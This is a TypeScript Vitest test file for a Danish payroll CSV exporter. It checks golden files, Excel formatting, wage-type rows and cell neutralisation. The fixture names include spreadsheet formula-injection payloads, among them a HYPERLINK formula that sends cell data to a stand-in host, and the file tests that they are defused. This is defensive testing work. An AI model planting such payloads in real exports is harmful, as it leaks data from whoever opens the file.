import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import {
  EXCEL_HEADER,
  WAGE_TYPES_HEADER,
  buildExcelCsv,
  buildWageTypesCsv,
  neutralise,
} from '../../../shared/csv';
import { formatFixed2 } from '../../../shared/danish/number';
import { computeMonth, toPayrollMonth } from '../../../shared/month';
import { october } from '../../fixtures/october';

const here = dirname(fileURLToPath(import.meta.url));
/** The remarks column (the efterregulering column comes before it, docs/rules.md §9). */
const REMARKS = EXCEL_HEADER.indexOf('Bemærkninger');
const golden = (name: string) => resolve(here, '../../fixtures/golden', name);
const payroll = toPayrollMonth(computeMonth(october));

/** Compares with the golden file byte for byte; UPDATE_GOLDEN=1 rewrites it (then review!). */
function expectGolden(name: string, csv: string) {
  const bytes = Buffer.from(csv, 'utf8');
  const file = golden(name);
  if (process.env.UPDATE_GOLDEN === '1') {
    mkdirSync(dirname(file), { recursive: true });
    writeFileSync(file, bytes);
  }
  expect(existsSync(file), `${name} mangler: kør med UPDATE_GOLDEN=1 og gennemse filen`).toBe(true);
  expect(bytes.equals(readFileSync(file))).toBe(true);
}

function parse(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const out = Papa.parse<string[]>(csv.slice(1), { delimiter: ';', newline: '\r\n' });
  expect(out.errors).toEqual([]);
  // The file ends with CRLF: papaparse yields one empty last row.
  expect(out.data.at(-1)).toEqual(['']);
  return out.data.slice(0, -1);
}

describe('Excel (da-DK) profile', () => {
  const csv = buildExcelCsv(payroll);

  it('matches the golden file byte for byte', () => expectGolden('excel-2026-10.csv', csv));

  it('has BOM, ; separators, CRLF only, decimal comma with two decimals', () => {
    const bytes = Buffer.from(csv, 'utf8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\r\n](?![^"]*"(;|$))/);
    expect(csv.split('\r\n')[0]).toBe(`\uFEFF${EXCEL_HEADER.join(';')}`);
    expect(csv).toContain(';232,25;');
    expect(csv).not.toMatch(/\d\.\d\d(;|\r)/);
  });

  it('round-trips through papaparse giving back every value', () => {
    const rows = parse(csv);
    expect(rows[0]).toEqual([...EXCEL_HEADER]);
    expect(rows).toHaveLength(payroll.rows.length + 1);
    payroll.rows.forEach((row, i) => {
      const cells = rows[i + 1]!;
      const r = row.result;
      expect(cells[0]).toBe('2026-10-01');
      expect(cells[1]).toBe('2026-10-31');
      expect(cells[2]).toBe(row.payrollNumber);
      expect(cells[3]).toBe(neutralise(row.name));
      const num = (s: string) => Number(s.replace(',', '.'));
      expect(num(cells[5]!)).toBe(r.days);
      expect(num(cells[6]!)).toBe(r.hours);
      // docs/rules.md §9 (issue 10, finding 7): a rate only with exactly one wage line.
      expect(cells[7]).toBe(
        r.wageLines.length === 1 ? formatFixed2(r.wageLines[0]!.hourlyWage) : '',
      );
      expect(num(cells[8]!)).toBe(r.grossPay);
      expect(num(cells[9]!)).toBe(r.transport.total);
      expect(num(cells[10]!)).toBe(r.transport.citizenShare);
      expect(num(cells[11]!)).toBe(r.transport.municipalShare);
      expect(num(cells[12]!)).toBe(r.transport.payrollAdjustment);
    });
    expect(rows[1]![REMARKS]).toBe(
      '19,00 kr. × 6,00 t fra 01.10.2026; 21,50 kr. × 5,50 t fra 16.10.2026. ' +
        'Borgerens kørselsandel er begrænset til 30 % af nettolønnen',
    );
    expect(rows[4]![REMARKS]).toBe('Timelønnen er sat over loftet');
  });

  it('shows a rate only where hours × rate is the gross pay (docs/rules.md §9)', () => {
    const num = (s: string) => Math.round(Number(s.replace(',', '.')) * 100);
    const rates = parse(csv)
      .slice(1)
      .filter((r) => r[7] !== '');
    expect(rates.length).toBeGreaterThan(0);
    for (const r of rates) expect(Math.round((num(r[6]!) * num(r[7]!)) / 100)).toBe(num(r[8]!));
  });

  it('rebuilds a month closed before issue 10 in the format it was closed with', () => {
    const before = parse(buildExcelCsv(payroll, 'before-issue-10'));
    expect(before[1]![7]).toBe('21,50');
    expect(before[1]![13]).toBe('Borgerens kørselsandel er begrænset til 30 % af nettolønnen');
  });

  it('neutralises OWASP formula payloads while negative amounts stay numbers', () => {
    const rows = parse(csv);
    const names = rows.slice(1).map((r) => r[3]!);
    expect(names).toEqual([
      'Anna Ærø',
      `'=HYPERLINK("http://x.example/?a="&A1;"Klik")`,
      `'-2+3 Carl; "Kalle" Åberg`,
      `'@SUM(1+1)\tDorte`,
    ]);
    for (const cell of rows.slice(1).flatMap((r) => [r[3]!, r[REMARKS]!]))
      expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // Bo's special transport is paid by the municipality: a deduction, a plain negative number.
    expect(rows[2]![12]).toMatch(/^-\d+,\d\d$/);
    expect(csv).toContain(`;${rows[2]![12]};`);
  });
});

describe('payroll-system (lønarter) profile', () => {
  const csv = buildWageTypesCsv(payroll);

  it('matches the golden file byte for byte', () => expectGolden('wage-types-2026-10.csv', csv));

  it('has one row per citizen per wage type with the configured codes', () => {
    const rows = parse(csv);
    expect(rows[0]).toEqual([...WAGE_TYPES_HEADER]);
    const byCode = rows.slice(1).map((r) => [r[0], r[2], r[4], r[5], r[6], r[7], r[8]]);
    expect(byCode).toEqual([
      ['1001', '1100', '6,00', '19,00', '114,00', '2026-10-01', '2026-10-15'],
      ['1001', '1100', '5,50', '21,50', '118,25', '2026-10-16', '2026-10-31'],
      ['1001', '6100', '2', '', '85,14', '2026-10-01', '2026-10-31'],
      ['1002', '1100', '10,25', '12,00', '123,00', '2026-10-01', '2026-10-31'],
      expect.arrayContaining(['1002', '6110']),
      ['1004', '1100', '13,00', '32,00', '416,00', '2026-10-01', '2026-10-31'],
      expect.arrayContaining(['1004', '6110']),
    ]);
    // Amounts add up to the month's wage and payroll adjustments.
    const total = rows
      .slice(1)
      .reduce((a, r) => a + Math.round(Number(r[6]!.replace(',', '.')) * 100), 0);
    expect(total).toBe(
      Math.round(payroll.totals.grossPay * 100) +
        Math.round(payroll.totals.payrollAdjustment * 100),
    );
  });

  it('uses the codes of the settings version in force', () => {
    const jan = toPayrollMonth(computeMonth({ ...october, month: '2027-01' }));
    expect(buildWageTypesCsv({ ...jan })).toBe(`\uFEFF${WAGE_TYPES_HEADER.join(';')}\r\n`);
    const codes = {
      ...payroll,
      wageTypeCodes: { wage: 'L1', transportReimbursement: 'K1', transportDeduction: 'K2' },
    };
    expect(buildWageTypesCsv(codes)).toContain(';L1;');
  });
});

describe('cells', () => {
  it('formats exact decimals with a comma', () => {
    expect(formatFixed2(0)).toBe('0,00');
    expect(formatFixed2(-12.5)).toBe('-12,50');
    expect(formatFixed2(1234567.89)).toBe('1234567,89');
    expect(formatFixed2(0.3)).toBe('0,30');
  });
  it('neutralises every OWASP start character', () => {
    for (const s of ['=1', '+1', '-1', '@a', '\tx', '\rx']) expect(neutralise(s)).toBe(`'${s}`);
    expect(neutralise('Anna')).toBe('Anna');
  });
});
